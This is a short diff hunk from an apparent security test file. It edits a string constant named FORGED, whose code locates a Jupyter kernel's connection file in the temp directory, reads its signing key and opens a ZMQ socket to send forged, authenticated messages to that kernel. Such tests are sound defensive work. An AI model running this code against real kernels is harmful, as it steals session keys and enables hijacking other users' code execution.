@@ -415,8 +415,8 @@ def look():
 """
 
 FORGED = """
-import json, glob, zmq
-connection = json.load(open(glob.glob("/tmp/ic-*/in/kernel.json")[0]))
+import json, glob, tempfile, zmq
+connection = json.load(open(glob.glob(tempfile.gettempdir() + "/ic-*/in/kernel.json")[0]))
 from jupyter_client.session import Session
 session = Session(key=connection["key"].encode())
 sender = zmq.Context().socket(zmq.DEALER)
